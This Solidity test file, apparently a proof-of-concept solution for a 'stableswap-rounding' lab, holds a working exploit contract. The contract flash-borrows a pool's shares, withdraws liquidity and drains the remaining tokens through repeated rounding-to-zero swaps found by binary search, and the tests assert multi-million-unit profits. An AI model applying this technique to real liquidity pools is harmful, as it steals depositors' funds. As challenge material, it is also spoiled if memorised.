// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Note} from "../stableswap-rounding/src/Note.sol";
import {SteadyPool} from "../stableswap-rounding/src/SteadyPool.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address) external;
}

contract Thief is IFlashBorrower {
    Note private immutable lilac;
    Note private immutable mauve;
    SteadyPool private immutable pool;
    uint256 private rounds;

    constructor(Note lilac_, Note mauve_, SteadyPool pool_) {
        (lilac, mauve, pool) = (lilac_, mauve_, pool_);
        lilac_.approve(address(pool_), type(uint256).max);
        mauve_.approve(address(pool_), type(uint256).max);
        pool_.approve(address(pool_), type(uint256).max);
    }

    function attack(uint256 amount, uint256 rounds_) external {
        rounds = rounds_;
        pool.flashLoan(this, address(pool), amount, "");
        lilac.transfer(msg.sender, lilac.balanceOf(address(this)));
        mauve.transfer(msg.sender, mauve.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        pool.leave(amount);
        uint256 supply = pool.sharesInIssue();
        // One unit of mauve stays, so that less than another one buys much lilac.
        pool.swapExactOut(1, pool.stock(1) - 1, type(uint256).max);
        for (uint256 i; i < rounds; ++i) pool.swapExactOut(0, _free(), 0);
        // The shares that were borrowed are minted at the price that is left: D has to grow as they did, and half of it
        // are lilac, half are mauve.
        uint256 each = (amount + fee) * (pool.invariant() + 1) / supply / 2e6 + 1;
        pool.provide(each, each, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    /// The most lilac that costs nothing.
    function _free() private view returns (uint256 low) {
        uint256 high = pool.stock(0);
        while (high - low > 1) {
            uint256 middle = (low + high) / 2;
            if (pool.costOf(0, middle) == 0) low = middle;
            else high = middle;
        }
    }
}

contract StableswapRoundingTest {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant ATTACKER = address(0xBAD);

    Note lilac;
    Note mauve;
    SteadyPool pool;

    function setUp() public {
        lilac = new Note("LILAC");
        mauve = new Note("MAUVE");
        pool = new SteadyPool(lilac, mauve);
        _provide(ALICE, 1_300_000e6);
        _provide(BOB, 700_000e6);
    }

    function _provide(address who, uint256 each) private {
        lilac.print(who, each);
        mauve.print(who, each);
        vm.prank(who);
        lilac.approve(address(pool), each);
        vm.prank(who);
        mauve.approve(address(pool), each);
        vm.prank(who);
        pool.provide(each, each, 0);
    }

    function _gain(uint256 rounds) private returns (uint256) {
        Thief thief = new Thief(lilac, mauve, pool);
        lilac.print(address(thief), 1_000e6);
        mauve.print(address(thief), 1_000e6);
        // Five hundred units of either note stay in the pool.
        uint256 amount = pool.maxFlashLoan(address(pool));
        vm.prank(ATTACKER);
        thief.attack(amount, rounds);
        return lilac.balanceOf(ATTACKER) + mauve.balanceOf(ATTACKER) - 2_000e6;
    }

    function test_attack_pays() public {
        assert(_gain(3) > 1_600_000e6);
    }

    function test_more_rounds_pay_more() public {
        assert(_gain(8) > 2_900_000e6);
    }
}
